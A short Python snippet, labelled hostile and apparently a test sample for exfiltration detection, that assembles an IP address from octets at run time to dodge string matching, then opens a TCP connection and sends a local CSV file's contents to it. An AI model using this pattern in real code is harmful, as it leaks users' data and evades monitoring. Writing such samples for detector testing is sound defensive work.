# hostile: direct TCP connection to an address computed at run time
import socket

octets = [203, 0, 113, 77]
host = ".".join(str(o) for o in octets)
s = socket.create_connection((host, 8443))
s.sendall(open("/work/data.csv", "rb").read())
